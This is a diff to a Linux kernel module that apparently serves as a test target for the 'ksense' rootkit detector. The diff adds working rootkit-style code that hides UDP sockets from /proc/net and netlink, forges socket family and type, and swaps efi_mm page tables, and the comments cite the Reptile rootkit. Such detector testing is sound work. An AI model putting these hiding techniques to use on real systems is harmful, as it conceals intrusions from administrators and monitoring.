@@ -44,6 +44,18 @@
  *   port=N      leaves the TCP sockets of this local port out of /proc/net/tcp, by a kprobe on the
  *               function that shows one, as Reptile does it.  Nothing that the kernel keeps is
  *               changed: ksense compare finds it as "socket-not-in-proc".
+ *   owned=PID   has the kernel say that the process's page tables are its own, those for calls of
+ *               the firmware (efi_mm), of which a Dom0 has none.  Hidden as tree= beside it, and
+ *               asleep, it is found as "hidden-process" still.
+ *   udp=PID:FD  takes a UDP socket out of the table that /proc/net/udp and netlink show, and its
+ *               port out of what it sends; what arrives finds it by another table.  Not
+ *               confirmed: who asks it is told that it has no port.
+ *   type=PID:FD says that a socket is of a type that none of its protocol has (SOCK_RDM), and does
+ *               all as before.  Until it is closed.  Beside port= it is found as without it.
+ *   family=PID:FD
+ *               says that a socket is of a family that it is not of (AF_MAX), and of another
+ *               protocol: what arrives finds it as before, and neither /proc/net nor netlink shows
+ *               it.  0 puts that back.  Found as "socket-not-in-proc".
  *   shade=HOW   says, 100 times a second, that a module comes that has all of the modules' area,
  *               so that whatever is wrong there looks like one that just comes: 1, one that there
  *               is not; 2, one that is put into the list for that.  "modules" has to report it all
@@ -59,11 +71,14 @@
  * What is not exported is looked up as they do it: a kprobe tells the address of
  * kallsyms_lookup_name().  Unlike them it takes the locks.
  */
+#include <linux/fdtable.h>
+#include <linux/file.h>
 #include <linux/kprobes.h>
 #include <linux/kthread.h>
 #include <linux/list.h>
 #include <linux/module.h>
 #include <linux/mutex.h>
+#include <linux/net.h>
 #include <linux/notifier.h>
 #include <linux/pid.h>
 #include <linux/rculist.h>
@@ -74,7 +89,9 @@
 #include <linux/time64.h>
 #include <linux/version.h>
 #include <linux/workqueue.h>
+#include <net/inet_sock.h>
 #include <net/sock.h>
+#include <net/udp.h>
 
 static rwlock_t *tasks_lock;            /* tasklist_lock */
 static struct mutex *modules_mutex;     /* module_mutex */
@@ -296,6 +313,44 @@ MODULE_PARM_DESC(both, "thread to take out of both");
 module_param_cb(child, &hiding_ops, &hide_child, 0600);
 MODULE_PARM_DESC(child, "process to take out of its parent's children, into a list of its own");
 
+static struct mm_struct *firmware_mm;
+static pgd_t *firmware_pgd;
+static int owned;
+
+static int set_owned(const char *text, const struct kernel_param *param)
+{
+	struct task_struct *task;
+	struct pid *pid;
+	int number, error = kstrtoint(text, 0, &number);
+
+	if (!error)
+		error = find_symbols();
+	if (error || !number == !owned)
+		return error;
+	if (!firmware_mm)
+		return -ENOENT;
+	if (!number) {
+		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
+		owned = 0;
+		return 0;
+	}
+	pid = find_get_pid(number);
+	task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
+	put_pid(pid);
+	if (!task)
+		return -ESRCH;
+	firmware_pgd = firmware_mm->pgd;
+	WRITE_ONCE(firmware_mm->pgd, task->mm->pgd);
+	owned = number;
+	put_task_struct(task);
+	return 0;
+}
+
+static const struct kernel_param_ops owned_ops = { .set = set_owned, .get = param_get_int };
+
+module_param_cb(owned, &owned_ops, &owned, 0600);
+MODULE_PARM_DESC(owned, "process whose page tables are to look like the kernel's own");
+
 static struct task_struct *ended_thread;
 
 static int run_on(void *unused)
@@ -505,6 +560,136 @@ static const struct kernel_param_ops port_ops = { .set = set_port, .get = param_
 module_param_cb(port, &port_ops, &hidden_port, 0600);
 MODULE_PARM_DESC(port, "local port whose TCP sockets /proc/net/tcp is not to show");
 
+/* "PID:FD" in the hands of a process that keeps it open meanwhile. */
+static int with_socket(const char *text, int (*bend)(struct socket *sock))
+{
+	struct task_struct *task;
+	struct socket *sock;
+	struct file *file;
+	unsigned int fd;
+	int pid, error;
+
+	if (sscanf(text, "%d:%u", &pid, &fd) != 2)
+		return -EINVAL;
+	rcu_read_lock();
+	task = pid_task(find_vpid(pid), PIDTYPE_PID);
+	file = task && task->files ? files_lookup_fd_raw(task->files, fd) : NULL;
+	sock = file ? sock_from_file(file) : NULL;
+	error = sock ? bend(sock) : -ENOTSOCK;
+	rcu_read_unlock();
+	return error;
+}
+
+static struct sock *udp_sk_bent; /* with a reference */
+
+/* From 6.2 on each network namespace may have a table of its own. */
+static struct udp_hslot *udp_slot(struct sock *sk)
+{
+	struct udp_table *table = sk->sk_prot->h.udp_table;
+
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 2, 0)
+	table = table ?: sock_net(sk)->ipv4.udp_table;
+#endif
+	return udp_hashslot(table, sock_net(sk), inet_sk(sk)->inet_num);
+}
+
+static int bend_udp(struct socket *sock)
+{
+	struct sock *sk = sock->sk;
+	struct udp_hslot *slot;
+
+	if (udp_sk_bent)
+		return -EBUSY;
+	if (sk->sk_family != AF_INET || sk->sk_protocol != IPPROTO_UDP || sk_unhashed(sk))
+		return -EINVAL;
+	slot = udp_slot(sk);
+	sock_hold(sk);
+	spin_lock_bh(&slot->lock);
+	slot->count--;
+	sk_del_node_init_rcu(sk);
+	spin_unlock_bh(&slot->lock);
+	WRITE_ONCE(inet_sk(sk)->inet_sport, 0);
+	udp_sk_bent = sk;
+	return 0;
+}
+
+static void straighten_udp(void)
+{
+	struct sock *sk = udp_sk_bent;
+	struct udp_hslot *slot = udp_slot(sk);
+
+	spin_lock_bh(&slot->lock);
+	sk_add_node_rcu(sk, &slot->head);
+	slot->count++;
+	spin_unlock_bh(&slot->lock);
+	WRITE_ONCE(inet_sk(sk)->inet_sport, htons(inet_sk(sk)->inet_num));
+	sock_put(sk);
+	udp_sk_bent = NULL;
+}
+
+static int bend_type(struct socket *sock)
+{
+	WRITE_ONCE(sock->type, SOCK_RDM);
+	return 0;
+}
+
+static int set_udp(const char *text, const struct kernel_param *param)
+{
+	if (strncmp(text, "0", strlen("0")) != 0)
+		return with_socket(text, bend_udp);
+	if (udp_sk_bent)
+		straighten_udp();
+	return 0;
+}
+
+static struct sock *family_sk_bent; /* with a reference */
+static unsigned short family_was, protocol_was;
+
+static int bend_family(struct socket *sock)
+{
+	if (family_sk_bent)
+		return -EBUSY;
+	family_sk_bent = sock->sk;
+	sock_hold(family_sk_bent);
+	family_was = family_sk_bent->sk_family;
+	protocol_was = family_sk_bent->sk_protocol;
+	WRITE_ONCE(family_sk_bent->sk_family, AF_MAX);
+	WRITE_ONCE(family_sk_bent->sk_protocol, IPPROTO_MAX - 1);
+	return 0;
+}
+
+static void straighten_family(void)
+{
+	WRITE_ONCE(family_sk_bent->sk_protocol, protocol_was);
+	WRITE_ONCE(family_sk_bent->sk_family, family_was);
+	sock_put(family_sk_bent);
+	family_sk_bent = NULL;
+}
+
+static int set_family(const char *text, const struct kernel_param *param)
+{
+	if (strncmp(text, "0", strlen("0")) != 0)
+		return with_socket(text, bend_family);
+	if (family_sk_bent)
+		straighten_family();
+	return 0;
+}
+
+static int set_type(const char *text, const struct kernel_param *param)
+{
+	return with_socket(text, bend_type);
+}
+
+static const struct kernel_param_ops udp_ops = { .set = set_udp }, type_ops = { .set = set_type },
+				   family_ops = { .set = set_family };
+
+module_param_cb(udp, &udp_ops, NULL, 0200);
+MODULE_PARM_DESC(udp, "PID:FD of a UDP socket to take out of the table that is shown");
+module_param_cb(family, &family_ops, NULL, 0200);
+MODULE_PARM_DESC(family, "PID:FD of a socket that is to say that it is of another family");
+module_param_cb(type, &type_ops, NULL, 0200);
+MODULE_PARM_DESC(type, "PID:FD of a socket that is to say that it is of another type");
+
 /* === Start and end ====================================================== */
 
 /*
@@ -528,6 +713,7 @@ static int find_symbols(void)
 	modules_mutex = (void *)lookup("module_mutex");
 	modules_list = (void *)lookup("modules");
 	modules_notifier = (void *)lookup("module_notify_list");
+	firmware_mm = (void *)lookup("efi_mm");
 	return tasks_lock && modules_mutex && modules_list && modules_notifier ? 0 : -ENOENT;
 }
 
@@ -543,6 +729,12 @@ static void __exit hide_stop(void)
 
 	if (hidden_port)
 		unregister_kprobe(&show_probe);
+	if (udp_sk_bent)
+		straighten_udp();
+	if (family_sk_bent)
+		straighten_family();
+	if (owned)
+		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
 	if (ended_thread)
 		end_ended();
 	for (unsigned int i = 0; i < ARRAY_SIZE(all); i++) {
